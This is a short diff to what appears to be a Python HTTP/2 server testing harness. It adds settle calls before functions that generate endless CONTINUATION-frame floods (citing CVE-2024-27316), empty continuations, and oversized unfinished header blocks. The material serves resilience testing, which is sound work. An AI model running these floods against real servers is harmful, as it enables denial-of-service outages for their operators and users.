@@ -140,12 +140,14 @@ def continuation_flood(ground: Ground) -> str:
     """CVE-2024-27316: a field block without an end."""
     with ground.peer() as peer:
         part = wire.literal(b"x", b"a" * 1000)
+        peer.settle()
         parts = itertools.chain([headers(1, pseudo(), 0)], (continuation(1, part, 0) for _ in itertools.count()))
         return _flood(ground, peer, parts)
 
 
 def empty_continuations(ground: Ground) -> str:
     with ground.peer() as peer:
+        peer.settle()
         parts = itertools.chain([headers(1, pseudo(), 0)], (continuation(1, b"", 0) for _ in itertools.count()))
         return _flood(ground, peer, parts)
 
@@ -340,6 +342,7 @@ def unfinished_blocks(ground: Ground) -> str:
 
         def act(peer: Peer, step: int) -> None:
             if step == 0:
+                peer.settle()
                 peer.send(headers(1, pseudo() + wire.literal(b"x", b"a" * 12_000), 0))
 
         return _held(ground, peers, act)
